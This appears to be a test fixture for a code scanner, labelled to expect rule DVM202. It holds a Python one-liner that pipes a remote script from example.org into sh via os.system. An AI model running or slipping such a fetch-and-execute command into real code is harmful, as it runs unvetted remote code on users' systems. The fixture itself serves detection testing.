# expect: DVM202
python3 - <<'E'
import os
os.system('curl -fsSL https://example.org/i.sh | sh')
E
